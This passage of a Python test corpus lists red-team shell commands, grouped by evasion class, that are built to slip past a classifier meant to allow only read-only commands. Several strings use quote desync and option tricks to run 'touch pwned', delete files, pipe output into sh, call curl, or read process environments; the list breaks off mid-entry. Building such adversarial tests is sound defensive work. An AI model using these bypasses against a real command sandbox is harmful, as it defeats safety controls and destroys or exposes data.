S("find . -name \\{x}y,-delete}", "{x}y,-delete}", ".", "escaped open brace: bash does not expand", alt="terminal")
S("rg 'a{1,3}' src", "a{1,3}", "src", "quoted braces in a pattern")
S("rg a{b}c src", "a{b}c", "src", "braces without a separator do not expand", alt="terminal")
# ================================================================== RED TEAM
# Adversarial commands for the issue "Classifier safety against an adversary", one block per
# class (the "class" field), every one labelled terminal: each does something a read may not do
# (reads stdin or the terminal, blocks, writes, executes, fetches) when bash 5.2, dash, zsh and
# the real tools run it.  They go to corpus/redteam.jsonl.  Their danger is checked for real:
# `make fuzz-safety` runs them all through the oracle with --force-run --expect-violations
# (tests/fuzz-safety.sh --long); suite_corpus holds the classifier to "terminal", and suite_oracle
# runs any the classifier accepts.  The fixtures named here (fifodir, logs.gz, ./bash, bin/bash,
# the v1/old revisions of a partial clone) are the oracle's (tests/oracle.py).  Findings of the
# classifier red team (/work/redteam/classifier/findings.jsonl) are at the end of each class.


def RT(cls, cmd, why, wrapped=False):
    case("redteam", cmd, "terminal", why, cls=cls)
    if wrapped:
        case("redteam", wrap(cmd), "terminal", why + " (wrapped)", cls=cls)


# ---- class 1: $'...' decodes as bash 5.2 does (\xHH, \x{H..}, \uH..H, \UH..H, \NNN, NUL ends the word)
for cmd, why in [
    (r"cat $'\x2d'", "\\x2d is '-': cat reads stdin"),
    (r"cat $'\x{2d}'", "bash 5.2 reads \\x{HH}: '-'"),
    (r"cat $'\u2d'", "\\u takes 1 to 4 hex digits: '-'"),
    (r"cat $'\U2d'", "\\U takes 1 to 8 hex digits: '-'"),
    (r"cat $'\u002D'", "upper-case hex digits"),
    (r"cat $'\x2D'", "upper-case hex digits"),
    (r"cat $'\55'", "octal takes 1 to 3 digits: '-'"),
    (r"cat $'\055'", "octal '-'"),
    (r"cat $'-\0f'", "NUL ends the word: '-'"),
    (r"cat $'\x2d\x00abc'", "\\x00 ends the word: '-'"),
    (r"cat $'-\u0000x'", "\\u0000 ends the word: '-'"),
    (r"cat $''-", "an empty $'' before '-'"),
    (r"cat -$''", "an empty $'' after '-'"),
    (r"cat $'\x2d'$'\x2d' $'\x2d'", "cat -- -"),
    (r'cat $"-"', "a locale string is '-' in the C locale"),
    (r"head -n 1 $'-\0'", "head reads stdin"),
    (r"nl $'\u002D'", "nl reads stdin"),
    (r"sed -n 1p $'\x2d'", "sed reads stdin"),
    (r"tail -n 1 $'\055'", "tail reads stdin"),
    (r"bat -P $'\x2d'", "bat reads stdin"),
    (r"grep foo $'\x2d'", "grep reads stdin"),
    (r"rg foo $'\x2d'", "rg reads stdin"),
    (r"tree $'\x2do' out", "tree -o out writes the listing"),
    (r"tree $'-\x6f' out", "tree -o out"),
    (r"tree $'\x{2d}o' out", "tree -o out (\\x{HH})"),
    (r"tree $'-\157' out", "tree -o out (octal)"),
    (r"sed -n 1p $'-\x69' f", "sed -i edits f in place"),
    (r"sed -n 1p $'-\151' f", "sed -i (octal)"),
    (r"sed -n 1p $'-i\0' f", "NUL ends the word: sed -i"),
    (r"sed $'-\u0069' -n 1p f", "sed -i (\\u)"),
    (r"sed $'-n\x69' 1p f", "sed -ni: in place"),
    (r"tail $'-\x66' f", "tail -f never ends"),
    (r"tail $'\x2df' f", "tail -f"),
    (r"tail -n 1 $'-\146' f", "tail -f (octal)"),
    (r"tail $'-\x{66}' f", "tail -f (\\x{HH})"),
    (r"rg $'--pre\x3dcat' foo .", "rg --pre=cat runs cat on every file"),
    (r"rg $'\x2d\x2dpre=cat' foo .", "rg --pre=cat"),
    (r"rg $'--pre\0x' cat foo .", "NUL ends the word: rg --pre cat"),
    (r"rg $'-\x7a' foo .", "rg -z runs gzip on logs.gz"),
    (r"ack foo $'\x2dx'", "ack -x reads the file list from stdin"),
    (r"ack foo $'-\170'", "ack -x (octal)"),
    (r"git $'\x2dp' grep foo", "git -p starts the pager on a terminal"),
    (r"git grep $'-\x4f' foo | head", "git grep -O runs the pager on the files"),
    (r"git grep $'--open-files-in-pager' foo | head", "git grep --open-files-in-pager"),
    (r"git grep $'--o\x70en' foo | head", "--open: a unique prefix of --open-files-in-pager"),
    (r"git --no-pager grep $'--text\x63onv' foo", "git grep --textconv runs the textconv driver"),
    (r"fd $'-\x78' cat README", "fd -x cat runs cat"),
    (r"find . -name f $'-\x64elete'", "find -delete deletes f"),
    (r"find . $'-\145xec' cat {} +", "find -exec runs cat"),
    (r"find . -name f $'\x2dfprint' out", "find -fprint writes out"),
    (r"cat $'/dev/\x7aero'", "/dev/zero never ends"),
    (r"cat $'/dev/std\x69n'", "/dev/stdin"),
    (r"cat $'/proc/self/fd/\x30'", "/proc/self/fd/0 is stdin"),
    (r"cat $'..\x2f..\x2f..\x2f..\x2f..\x2f..\x2f..\x2f..\x2fdev/zero'", "../ chain to /dev/zero"),
    (r"cd $'/dev' && cat zero", "cd /dev: zero is /dev/zero"),
    (r"cd $'\x2fdev' && cat stdin", "cd /dev: stdin is /dev/stdin"),
    (r"cat f | sort $'-\x6f' out", "sort -o out writes"),
    (r"cat f | sort $'--output=out'", "sort --output writes"),
    (r"cat f | sort $'-\x53' 1", "sort -S 1 spills to temporary files"),
    (r"bat $'--paging\x3dalways' f", "bat pages on a terminal"),
    (r"bat --paging=$'\x61lways' f", "bat --paging=always"),
    (r"grep -r $'-\x44' read foo fifodir", "grep -D read opens the FIFO"),
    (r"grep $'--devices=read' -r foo fifodir", "grep --devices=read opens the FIFO"),
    (r"head $'-\x63' 5 /dev/zero", "head -c 5 /dev/zero"),
    (r"ls $'-\x52' /", "ls -R / does not end in time"),
]:
    RT("1", cmd, why, wrapped=True)

# ---- class 2: brace expansion ({a,b} and {x..y} unquoted) makes words bash then passes on
for cmd, why in [
    ("cat {-,f}", "cat - f: reads stdin"),
    ("cat {f,-}", "cat f -"),
    ("cat -{,}", "cat - -"),
    ("cat {,-}", "the empty word is dropped: cat -"),
    ("cat {-,-}", "cat - -"),
    ("cat {'-',f}", "quoted inside the braces, still expanded"),
    ('cat {"-",f}', "double-quoted inside the braces"),
    ("cat {$'\\x2d',f}", "ANSI-C inside the braces"),
    ("cat {\\-,f}", "an escaped dash is still '-'"),
    ("cat {{-,f},g}", "nested braces"),
    ("cat {-,f}{,}", "two brace groups"),
    ("head -n 1 {-,f}", "head reads stdin"),
    ("nl {f,-}", "nl reads stdin"),
    ("bat -P {-,f}", "bat reads stdin"),
    ("grep -r foo {-,src}", "grep reads stdin even with -r"),
    ("rg foo -{z,}", "rg -z and stdin"),
    ("sed -n 1p {-i,f}", "sed -n 1p -i f: in place"),
    ("sed -n {-i,1p} f", "sed -n -i 1p f"),
    ("sed -n 1p -{i..i} f", "a letter sequence: -i"),
    ("tree {-o,out}", "tree -o out"),
    ("tree -{o,a} out", "tree -o -a out writes a file named -a"),
    ("tree -{o..o} out", "a letter sequence: tree -o out"),
    ("tail {-f,f}", "tail -f f never ends"),
    ("tail -{f,n} 1 f", "tail -f -n 1 f"),
    ("tail -{f..f} f", "a letter sequence: tail -f"),
    ("tail -{n1,f} f", "tail -n1 -f f"),
    ("rg foo {--pre=cat,.}", "rg foo --pre=cat ."),
    ("rg --pre={cat,x} foo .", "rg --pre=cat --pre=x: runs x"),
    ("rg {-z,foo} .", "rg -z foo: runs gzip"),
    ("cat /dev/{zero,null}", "/dev/zero"),
    ("cat {/dev/stdin,f}", "/dev/stdin"),
    ("cat /{dev,tmp}/zero", "/dev/zero"),
    ("cat /proc/self/{environ,status}", "process files"),
    ("ack foo {-x,src}", "ack -x reads stdin"),
    ("fd README {-x,cat}", "fd README -x cat"),
    ("find . {-delete,-name} f", "find . -delete -name f deletes everything"),
    ("find . -name f {-delete,}", "find -delete"),
    ("git {-p,grep} foo", "git -p grep foo pages on a terminal"),
    ("git grep {-O,foo} | head", "git grep -O foo runs the pager"),
    ("git --no-pager grep {--textconv,foo}", "git grep --textconv foo"),
    ("git --no-pager grep foo {v1,--}", "git grep foo v1 --: fetches v1's blobs"),
    ("cat f | sort {-o,out}", "sort -o out"),
    ("bat {--paging=always,f}", "bat pages on a terminal"),
    ("ls {-R,/}", "ls -R / does not end in time"),
    ("grep -r foo fifodir {-D,read}", "grep -D read opens the FIFO"),
    ("head {-c,5} /dev/zero", "head -c 5 /dev/zero"),
]:
    RT("2", cmd, why, wrapped=True)

# ---- class 3: `sh -c` is dash (no $'...': the quotes pair up differently), `zsh -c` is zsh
for cmd, why in [
    ('sh -c "cat f\\$\'\\\\\' ; touch pwned #\'"', "dash: $' is $ then a quote: touch runs"),
    ('sh -c "cat \\$\'\\\\\' ; rm -f f #\'"', "dash: rm -f f runs"),
    ('sh -c "head -n 1 f \\$\'\\\\\' > f #\'"', "dash: > f truncates f"),
    ('sh -c "ls \\$\'\\\\\' ; sed -i 1d f #\'"', "dash: sed -i edits f"),
    ('sh -c "rg foo \\$\'\\\\\' | sh #\'"', "dash: the output runs through sh"),
    ('sh -c "cat f \\$\'\\\\\' || mkdir x #\'"', "dash: mkdir runs when cat fails"),
    ('sh -c "grep -rn foo . \\$\'\\\\\' >> out #\'"', "dash: appends to out"),
    ('/bin/sh -c "cat \\$\'\\\\\' ; touch pwned #\'"', "/bin/sh is dash"),
    ('/usr/bin/sh -c "cat \\$\'\\\\\' ; touch pwned #\'"', "/usr/bin/sh is dash"),
    ('sh -lc "cat \\$\'\\\\\' ; touch pwned #\'"', "dash as a login shell"),
    ('dash -c "cat \\$\'\\\\\' ; touch pwned #\'"', "dash by name"),
    ('sh -c "cat \\$\'\\\\\' ; cat #\'"', "dash: the second cat reads stdin"),
    ('sh -c "cat \\$\'\\\\\' ; tail -f f #\'"', "dash: tail -f never ends"),
    ('sh -c "nl \\$\'\\\\\' ; git status #\'"', "dash: git status writes the index"),
    ("zsh -c 'cat f(e:\"touch pwned\":)'", "zsh: a glob qualifier runs code"),
    ("zsh -c 'cat f(e:touch\\ pwned:)'", "zsh: glob qualifier"),
    ("zsh -c 'cat =(touch pwned)'", "zsh: =(...) runs a command (and writes a temporary file)"),
    ("zsh -c 'cat f =(touch pwned)'", "zsh: =(...) after a file"),
    ("zsh -c 'ls (f|g)(e:\"touch pwned\":)'", "zsh: a glob with a qualifier"),
    ("zsh -c 'head -n 1 f(+touch)'", "zsh: (+cmd) runs a shell function or command as a qualifier"),
    ("zsh -lc 'cat f(e:\"touch pwned\":)'", "zsh -lc"),
    ("zsh -c 'cat f >(touch pwned)'", "process substitution"),
]:
    RT("3", cmd, why)

# ---- class 4: each tool's own option parser
for cmd, why in [
    # tree takes the values of -L -P -I -o ... from the NEXT words, even inside a cluster
    ("tree -Po -L out", "tree: -P takes -L, -o takes out: writes out"),
    ("tree -aPo -L out", "tree: -a, -P -L, -o out"),
    ("tree -Io --charset README.md", "tree: -I --charset, -o README.md overwrites it"),
    ("tree -Lo 1 out", "tree: -L 1, -o out"),
    ("tree -oL out 1", "tree: -o out, -L 1"),
    ("tree -IPo a b out", "tree: -I a, -P b, -o out"),
    ("tree --noreport -Po x out", "tree: -P x, -o out"),
    ("tree -dLo 1 out", "tree: -d, -L 1, -o out"),
    ("tree -ao out", "tree: -a, -o out"),
    ("tree -ho out", "tree: -h, -o out"),
    # clap (rg, fd, bat): no prefixes; clusters; options after operands
    ("rg -zi foo .", "rg: -z -i: runs gzip on logs.gz"),
    ("rg -iz foo .", "rg: -i -z"),
    ("rg -nz foo .", "rg: -n -z"),
    ("rg foo . --pre=cat", "rg: an option after the operands"),
    ("rg foo . --pre cat", "rg: --pre after the operands, value separate"),
    ("rg -e foo --pre=cat .", "rg: --pre after -e"),
    ("rg --search-zip foo .", "rg --search-zip runs gzip"),
    ("rg foo . -z", "rg: -z after the operands"),
    ("fd -Hx cat README", "fd: -H -x cat"),
    ("fd README -x cat", "fd: -x after the pattern"),
    ("fd -l README", "fd -l runs ls"),
    ("fd --list-details README", "fd --list-details runs ls"),
    ("fd -X cat README", "fd -X runs cat"),
    ("fd -Lx cat README", "fd: -L -x cat"),
    ("fd --exec=cat README", "fd --exec=cat"),
    ("fd -tf -x cat README", "fd: -t f then -x"),
    ("bat --pager=less f", "bat --pager"),
    ("bat --paging=always f", "bat pages on a terminal"),
    ("bat -pp --paging=always f", "bat: --paging after -pp"),
    # git parse-options: prefixes, clusters, --no-
    ("git grep --open foo | head", "git: --open is a prefix of --open-files-in-pager"),
    ("git grep --op foo | head", "git: --op is a prefix of --open-files-in-pager"),
    ("git --no-pager grep -Ocat foo", "git grep -O with an attached pager"),
    ("git --no-pager grep --textc foo", "git: --textc is --textconv"),
    ("git grep -3O foo | head", "git: -3 -O in one cluster"),
    ("git grep -nO foo | head", "git: -n -O"),
    ("git --no-pager grep -f - foo", "git grep -f - reads the patterns from stdin"),
    ("git --no-pager grep -f/dev/stdin", "git grep -f /dev/stdin"),
    ("git --paginate grep foo", "git --paginate pages on a terminal"),
    ("git -p grep foo", "git -p"),
    ("git grep foo", "git grep on a terminal starts the pager"),
    ("git ls-files | git grep foo", "the primary is git grep on the terminal"),
    # ack Getopt::Long: bundling, prefixes
    ("ack -ix foo", "ack: -i -x reads the file list from stdin"),
    ("ack -xi foo", "ack: -x -i"),
    ("ack --files-f=- foo", "ack: --files-f is --files-from: stdin"),
    ("ack --files-from=/dev/stdin foo", "ack --files-from reads stdin"),
    ("ack --filter foo src", "ack --filter reads stdin"),
    ("ack --pag=less foo src", "ack: --pag is --pager"),
    ("ack --pager=less foo src", "ack --pager"),
    ("ack foo src", "ack reads stdin whenever stdin is a pipe (filter mode), operands or not"),
    ("ack -i foo .", "ack in filter mode"),
    # GNU grep: devices and -R
    ("grep -rD read foo fifodir", "grep: -r -D read opens the FIFO"),
    ("grep -r --devices=read foo fifodir", "grep --devices=read"),
    ("grep -r --dev=read foo fifodir", "grep: --dev is --devices"),
    ("grep -R foo fifodir", "grep -R opens a FIFO found in the tree and waits"),
    ("grep -Rn foo .", "grep -R over the checkout with a FIFO"),
    ("grep --dereference-recursive foo fifodir", "grep -R"),
    ("grep -rn foo . -R", "grep: -R after the operands"),
    ("ag foo src", "ag without -U runs sh -c 'git config ...'"),
    ("ag -U --pager=less foo src", "ag --pager"),
    ("rg foo", "rg with no path searches stdin when it is a pipe"),
    # GNU sed and coreutils
    ("sed -ni 1p f", "sed: -n -i"),
    ("sed -n --in-pl 1p f", "sed: --in-pl is --in-place"),
    ("sed -n 1p f -i", "sed: -i after the operands"),
    ("sed -nEi 1p f", "sed: -n -E -i"),
    ("sed -n -s -i 1p f", "sed -s -i"),
    ("sed -n -e 1p -e 'w out' f", "sed: a second -e writes"),
    ("sed --quiet --in-place=.bak 1p f", "sed --in-place=.bak"),
    ("tail -fn 1 f", "tail: -f -n 1"),
    ("tail -n1 -f f", "tail -f"),
    ("tail --fo f", "tail: --fo is --follow"),
    ("tail --follow=name f", "tail --follow=name"),
    ("tail -F f", "tail -F"),
    ("tail -c 5 -f f", "tail -c 5 -f"),
    ("tail -n +1 -f f", "tail -n +1 -f"),
    ("cat -A -", "cat reads stdin"),
    ("find . -name f -ok cat {} \\;", "find -ok asks on stdin"),
    ("find -files0-from - -name f", "find -files0-from - reads stdin"),
    ("find . -name f -okdir cat {} \\;", "find -okdir asks on stdin"),
    ("cat f | sort -uo out", "sort: -u -o out"),
    ("cat f | sort -ro out", "sort: -r -o out"),
    ("cat f | sort --out=out", "sort: --out is --output"),
    ("cat f | uniq - out", "uniq writes out"),
    ("cat f | uniq -c - out", "uniq -c writes out"),
    ("ls | sort /dev/tty", "a filter with a file operand reads the terminal"),
    ("ls | head -n 1 /dev/tty", "head reads the terminal"),
    ("ls | wc -l /dev/zero", "wc reads /dev/zero forever"),
    ("ls | uniq -c /dev/tty", "uniq reads the terminal"),
]:
    RT("4", cmd, why)

# ---- class 5: repeated options: the last one wins
for cmd, why in [
    ("bat --paging=never --paging=always f", "bat: the last --paging wins: pages on a terminal"),
    ("bat -P --paging=always f", "bat: --paging=always after -P"),
    ("bat --paging never --paging always f", "bat: separate values"),
    ("bat --paging=never f --paging=always", "bat: the last one after the operand"),
    ("bat -P f --paging=always", "bat: -P then --paging=always after the file"),
    ("grep -r -d read foo", "grep: -d read after -r: no recursion, no operand: reads stdin"),
    ("grep -d recurse -d skip foo", "grep: the last -d wins: reads stdin"),
    ("grep --directories=recurse --directories=read foo", "grep: reads stdin"),
    ("grep -R -d skip foo", "grep: -d skip after -R: reads stdin"),
    ("grep -rd read foo", "grep: -r -d read in one cluster: reads stdin"),
    ("grep -d recurse --directories=read foo", "grep: long after short"),
    ("grep -r --directories=skip foo", "grep: reads stdin"),
    ("git --no-pager grep --no-textconv --textconv foo", "git: the last one wins: textconv runs"),
    ("git grep --no-open-files-in-pager -O foo | head", "git: -O after its negation"),
    ("rg --no-search-zip -z foo .", "rg: -z after --no-search-zip runs gzip"),
    ("rg --no-search-zip --search-zip foo .", "rg: the last one wins"),
    ("ack --nopager --pager=less foo src", "ack: the last one wins: pager on a terminal"),
    ("ack --nofilter --filter foo src", "ack: --filter after --nofilter reads stdin"),
    ("ack --noenv --env foo src", "ack --env"),
    ("git --no-pager -p grep foo", "git: -p after --no-pager pages on a terminal"),
    ("git --no-pager --paginate grep foo", "git: --paginate after --no-pager"),
    ("sed -n --posix -i 1p f", "sed -i after other flags"),
    ("tail -n 1 --follow f", "tail --follow after -n"),
]:
    RT("5", cmd, why)

# ---- class 6: option values are judged like operands (- is stdin; files joined onto cd DIR)
for cmd, why in [
    ("grep --exclude-from=- -r foo src", "grep --exclude-from=- reads stdin"),
    ("grep --exclude-from - -r foo src", "separate value"),
    ("grep -r --exclude-from=/dev/stdin foo src", "/dev/stdin"),
    ("grep -r --exclude-from=/dev/zero foo src", "/dev/zero never ends"),
    ("grep -r --exclude-from=/dev/tty foo src", "the terminal"),
    ("grep -r --exclude-from=/proc/self/fd/0 foo src", "stdin by its /proc name"),
    ("grep -r --exclude-from=../../../../../../../../dev/stdin foo src", "../ chain"),
    ("grep -r --exclude-from=/./dev/stdin foo src", "/./dev"),
    ("grep -r --exclude-from=/usr/../dev/stdin foo src", "/usr/../dev"),
    ("grep -r --exclude-f=- foo src", "--exclude-f is --exclude-from"),
    ("cd /dev && grep --exclude-from=stdin foo null", "stdin joined onto cd /dev"),
    ("cd /dev && grep -r --exclude-from=zero foo /usr/share/doc/bash", "zero joined onto cd /dev"),
    ("cd /proc/self/fd && grep -r --exclude-from=0 foo /usr/share/doc/bash", "fd 0"),
    ("rg --ignore-file /dev/stdin foo src", "rg --ignore-file reads stdin"),
    ("rg --ignore-file=/dev/zero foo src", "rg --ignore-file /dev/zero never ends"),
    ("rg --ignore-file /proc/self/fd/0 foo src", "stdin by its /proc name"),
    ("rg --ignore-file=/./dev/stdin foo src", "/./dev"),
    ("rg --ignore-file /dev/tty foo src", "the terminal"),
    ("cd /dev && rg --ignore-file stdin foo null", "joined onto cd /dev"),
    ("fd --ignore-file /dev/stdin foo src", "fd --ignore-file reads stdin"),
    ("fd --ignore-file=/dev/zero foo src", "/dev/zero"),
    ("cd /dev && fd --ignore-file stdin foo /usr/share/doc/bash", "joined onto cd /dev"),
    ("ag -U -p /dev/stdin foo src", "ag --path-to-ignore reads stdin"),
    ("ag -U --path-to-ignore=/dev/zero foo src", "/dev/zero"),
    ("ag -U -p /dev/tty foo src", "the terminal"),
    ("git ls-files -X /dev/stdin", "git ls-files --exclude-from reads stdin"),
    ("git ls-files --exclude-from=/dev/zero", "/dev/zero"),
    ("git ls-files --exclude-from=/proc/self/fd/0", "stdin"),
    ("git ls-files -X/dev/tty", "the terminal"),
    ("git ls-files --exclude-from=../../../../../../../../dev/stdin", "../ chain"),
    ("head -n 1 -", "head - reads stdin"),
    ("head -n 1 -- -", "- after -- is still stdin"),
    ("sed -n 1p -", "sed - reads stdin"),
    ("sed -n 1p -- -", "after --"),
    ("nl -- -", "nl - reads stdin"),
    ("nl -ba -", "nl -ba -"),
    ("tail -n 1 -", "tail - reads stdin"),
    ("cat -- -", "cat -- -"),
    ("cat f -", "cat f -"),
    ("bat -P -", "bat - reads stdin"),
    ("bat -P -- -", "after --"),
    ("grep foo -", "grep - reads stdin"),
    ("grep -e foo -- -", "after --"),
    ("grep -r foo -", "grep -r still reads stdin for -"),
    ("grep --label=x foo -", "--label names stdin"),
    ("rg foo -", "rg - reads stdin"),
    ("rg foo -- -", "after --"),
    ("rg -e foo -", "rg -e foo -"),
    ("ack foo -", "ack - reads stdin"),
    ("bat --file-name x -", "bat reads stdin"),
    ("cat f | head -n 1 /dev/stdin f", "/dev/stdin is the pipe here, then f"),
]:
    RT("6", cmd, why)

# ---- class 7: paths are judged as text (/proc, /./dev, /usr/../dev, ../.. chains, cd into them)
for cmd, why in [
    ("cat /./dev/zero", "/./dev"),
    ("cat /dev/./zero", "/dev/./"),
    ("cat //dev//zero", "doubled slashes"),
    ("cat /usr/../dev/zero", "/usr/.."),
    ("cat /tmp/../dev/stdin", "/tmp/.."),
    ("cat /dev/../dev/zero", "/dev/../dev"),
    ("cat ../../../../../../../../dev/zero", "a ../ chain reaches /"),
    ("cat src/../../../../../../../../../../dev/zero", "a ../ chain through a directory"),
    ("cat ./../../../../../../../../dev/stdin", "./ then ../"),
    ("cat /proc/self/fd/0", "stdin"),
    ("cat /proc/thread-self/fd/0", "stdin"),
    ("cat /dev/fd/0", "stdin"),
    ("cat /proc/self/root/dev/zero", "/proc/self/root is /"),
    ("cat /proc/self/cwd/../../../../../../../../dev/zero", "through /proc/self/cwd"),
    ("cat /proc/self/environ", "the environment of the process"),
    ("cat /proc/1/environ", "another process's environment"),
    ("cat /proc/self/cmdline", "process files"),
    ("head -c 100 /proc/self/mem", "process memory"),
    ("cat /proc/self/fd/1", "stdout: on a terminal, reads the terminal"),
    ("cat /proc/self/fd/2", "stderr: the terminal"),
    ("head -n 1 /dev/tty", "the terminal"),
    ("head -n 1 /dev/console", "the console"),
    ("head -c 5 /dev/zero", "a device"),
    ("head -c 5 /dev/full", "a device"),
    ("tail -n 1 /dev/zero", "never ends"),
    ("nl /dev/stdin", "stdin"),
    ("sed -n 1p /dev/stdin", "stdin"),
    ("bat -P /dev/stdin", "stdin"),
    ("rg foo /dev/stdin", "a search of stdin"),
    ("rg foo /./dev/zero", "a search of /dev/zero"),
    ("grep foo /usr/../dev/zero", "grep /dev/zero"),
    ("grep -r foo /proc/self/fd/0", "stdin"),
    ("ag -U foo /dev/stdin", "stdin"),
    ("cd /dev && cat zero", "cd /dev"),
    ("cd /dev/ && head -c 5 zero", "cd /dev/"),
    ("cd / && cat dev/zero", "cd / then dev/zero"),
    ("cd /usr/.. && cat dev/stdin", "cd /usr/.."),
    ("cd /./dev && cat stdin", "cd /./dev"),
    ("cd ../../../../../../../../ && cat dev/zero", "cd up a ../ chain"),
    ("cd .. && cd .. && cd .. && cd .. && cd .. && cd .. && cd .. && cd .. && cat dev/zero", "eight cd .."),
    ("cd /proc/self && cat environ", "cd /proc/self"),
    ("cd /proc/self/fd && cat 0", "cd /proc/self/fd"),
    ("cd /dev/fd && cat 0", "cd /dev/fd"),
    ("cd /proc && cat self/fd/0", "cd /proc"),
    ("cd /dev && rg foo stdin", "cd /dev then a search of stdin"),
    ("cd /dev && grep foo stdin", "cd /dev, grep stdin"),
    ("cd /dev && tail -n 1 zero", "cd /dev, tail zero"),
    ("cd -P /dev && cat zero", "cd -P"),
    ("cd -L ../../../../../../../.. && cat dev/zero", "cd -L up a chain"),
    ("cd /dev && cd . && cat zero", "two cds"),
    ("cd src && cat ../../../../../../../../../dev/zero", "cd then a chain"),
    ("cd /dev && nl stdin", "cd /dev, nl stdin"),
    ("cd /dev && sed -n 1p stdin", "cd /dev, sed stdin"),
]:
    RT("7", cmd, why)

# ---- class 8: the [dir/]bash -c wrapper runs whatever bash the path names (planted in the checkout)
for cmd, why in [
    ("./bash -c 'cat f'", "./bash is the checkout's own program"),
    ("bin/bash -c 'cat f'", "bin/bash is planted"),
    ("./bin/bash -lc 'ls'", "./bin/bash"),
    ("tools/bash -c 'cat f'", "tools/bash"),
    ("node_modules/.bin/bash -c 'cat f'", "node_modules/.bin/bash"),
    (".venv/bin/bash -lc 'cat f'", ".venv/bin/bash"),
    (".//bash -c 'cat f'", "doubled slash"),
    ("././bash -c 'cat f'", "./././"),
    ("bin//bash -c 'cat f'", "bin//bash"),
    ("bin/../bash -c 'cat f'", "bin/.. back to ./bash"),
    ("'./bash' -c 'cat f'", "quoted path"),
    ('"bin/bash" -lc "cat f"', "double-quoted path"),
    ("./bash -c \"rg foo src\"", "a search through the planted bash"),
    ("bin/bash -c 'ls -la'", "a list through the planted bash"),
    ("./bash -lc 'git ls-files'", "git through the planted bash"),
]:
    RT("8", cmd, why)

# ---- class 9: git grep PATTERN REV reads REV's blobs: a partial clone fetches them (runs
# git fetch, git-upload-pack, writes a pack)
for cmd, why in [
    ("git grep foo v1", "a tag"),
    ("git --no-pager grep foo v1", "a tag"),
    ("git grep -n foo HEAD~1 | head", "HEAD~1"),
    ("git --no-pager grep foo old", "a branch"),
    ("git --no-pager grep foo origin/old", "a remote branch"),
    ("git --no-pager grep -e foo v1", "with -e"),
    ("git --no-pager grep foo v1 -- src", "a tag, then a path"),
    ("git --no-pager grep foo HEAD^", "HEAD^"),
    ("git --no-pager grep foo @~1", "@~1"),
    ("git --no-pager grep foo main~1", "main~1"),
    ("git --no-pager grep -l foo v1", "-l"),
    ("git --no-pager grep -c foo refs/tags/v1", "a full ref"),
    ("git --no-pager grep foo v1:src", "a tree"),
    ("git --no-pager grep foo 'v1^{tree}'", "v1's tree"),
    ("git --no-pager grep -n foo HEAD~1 HEAD", "two revisions"),
    ("git --no-pager grep -i foo old -- .", "a branch then --"),
    ("git --no-pager grep --max-count 1 foo v1", "an option before"),
    ("cd src && git --no-pager grep foo v1", "from a subdirectory"),
    ("git grep -c foo old | head -n 5", "piped"),
]:
    RT("9", cmd, why)


# ---- the classifier red team's verified findings (/work/redteam/classifier/findings.jsonl:
# each one seen doing its harm in a sandbox; classes A-E of its report are named here by cause)
CLASSIFIER_REDTEAM = [
    ('1', "find $'\\x{2d}delete'", "bash decodes \\x{2d} to '-': find -delete deletes every file under ."),
    ('1', "find $'\\x{2d}delete' -name '*.md'", 'find -delete -name ...: -delete first deletes everything'),
    ('1', "rg foo . $'\\x{2d}-pre=touch'", 'rg --pre=touch runs touch on every searched file'),
    ('1', "fd a . $'\\x{2d}xtouch'", 'fd -x touch runs touch on every match'),
    ('1', "grep -r foo . $'\\x{2d}-include=*.md' $'\\x{2d}f-'", 'grep -f- reads patterns from stdin: blocks on an open stdin'),
    ('1', "find . $'\\x{2d}fprint' found.txt -name x", 'bash gives find . -fprint found.txt -name x: truncates and writes found.txt'),
    ('1', "cat f$'\\c@\\c'; touch pwned #'", "quote desync: bash ends $'..' at \\c', runs `touch pwned`"),
    ('1', "sed -n 1p f$'\\c@\\c' -i #'", 'quote desync: bash runs sed -n 1p f -i: rewrites f in place to its first line'),
    ('1', "grep -rn TODO .$'\\c@\\c' | sh #'", 'quote desync: output piped into sh (executes)'),
    ('1', "head -n 5 f$'\\c@\\c' > f #'", 'quote desync: truncates f through a redirection'),
    ('1', "git ls-files$'\\c@\\c' -z | xargs -0 rm #'", 'quote desync: deletes every tracked file'),
    ('1', "cat README.md$'\\c@\\c' & curl http://example.com #'", 'quote desync: runs curl (network)'),
    ('1', "tree $'\\x{2d}o' -P README.md", "bash gives tree -o -P README.md: tree writes its listing to a file named '-P'"),
    ('1', "cat $'\\x{2d}'", 'bash gives cat -: reads stdin, blocks while stdin stays open'),
    ('1', "sed -n 1p $'\\x{2d}'", 'bash gives sed -n 1p -: reads stdin, blocks'),
    ('1', "tail $'\\x{2d}f'", 'bash gives tail -f (no file): follows stdin forever, even when stdin is /dev/null'),
    ('1', "ack foo $'\\x{2d}x'", 'bash gives ack foo -x: reads the file list from stdin, blocks'),
    ('1', "git grep $'\\x{2d}Otouch' foo | head", 'bash gives git grep -Otouch foo: runs touch with the matching files'),
    ('1', "nl $'\\x{2d}\\x{2d}'", 'bash gives nl --: no file, reads stdin, blocks'),
    ('2', "find . ''{},-delete} -name x", 'bash: find . } -delete -name x: deletes every file under .'),
    ('2', "rg foo . ''{},--pre=touch}", 'bash: rg foo . } --pre=touch: runs touch on every file'),
    ('2', "fd -E ''{},a,-xtouch}", 'bash: fd -E } a -xtouch: runs touch on every match'),
    ('2', "tree -I ''{},-o,out}", 'bash: tree -I } -o out: writes ./out'),
    ('2', "grep -r ''{},-f-} foo .", 'bash: grep -r } -f- foo .: reads patterns from stdin, blocks'),
    ('2', "tail -n 5 ''{},-F,--retry}", "bash: tail -n 5 } -F --retry: waits forever for the file '}'"),
    ('2', "sed -n -s 1p ''{},-i,f}", "bash: sed -n -s 1p } -i f: rewrites f in place (sed skips the missing '}')"),
    ('2', "cat ''{},-}", 'bash: cat } -: reads stdin, blocks'),
    ('2', "head -n 3 ''{},/de}v/zero", 'bash: head -n 3 }v/zero /dev/zero: reads /dev/zero forever (the /dev/ text only exists after expansion)'),
    ('2', "cat ''{},/pro}c/self/fd/0", 'bash: cat }c/self/fd/0 /proc/self/fd/0: reads stdin, blocks'),
    ('2', "find . ''{},-exec,touch,pwned,\\;} -name x", 'bash: find . } -exec touch pwned ; -name x: runs touch'),
    ('3', 'sh -c "cat f\\$\'\\\\c@\\\\\' ; touch pwned #\'"', "dash has no $'..': the quote ends at \\' and `touch pwned` runs"),
    ('3', 'sh -c "sed -n 1p f\\$\'\\\\0\\\\\' ; sed -i 1d f #\'"', 'dash: runs sed -i 1d f (edits f in place)'),
    ('3', 'sh -c "head -n 5 f\\$\'\\\\0\\\\\' > f #\'"', 'dash: > f truncates f'),
